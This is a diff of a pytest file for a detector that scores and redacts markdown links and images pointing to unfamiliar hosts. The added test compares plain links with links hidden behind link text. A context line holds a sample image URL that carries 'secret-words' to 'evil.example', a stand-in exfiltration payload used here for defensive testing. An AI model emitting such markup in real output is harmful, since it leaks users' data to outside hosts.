@@ -140,6 +140,13 @@ def test_plain_link_to_a_strange_host_is_only_a_hint() -> None:
     assert 0 < detect_markup("https://other.example/page").score < 0.5
 
 
+@pytest.mark.parametrize("carried", ["page", f"?q={LOT}", f"#{LOT * 2}", LOT])
+def test_link_is_judged_alike_plain_and_behind_words(carried: str) -> None:
+    address = f"https://other.example/{carried}"
+    plain, behind_words = detect_markup(f"See {address}"), detect_markup(f"See [here]({address})")
+    assert plain.score == behind_words.score > 0 and (plain.score >= 0.5) == (carried != "page")
+
+
 def test_image_of_a_strange_host_is_taken_out() -> None:
     found = detect_markup("Done! ![ok](https://evil.example/?q=secret-words)")
     assert found.redacted == "Done! [IMAGE]"
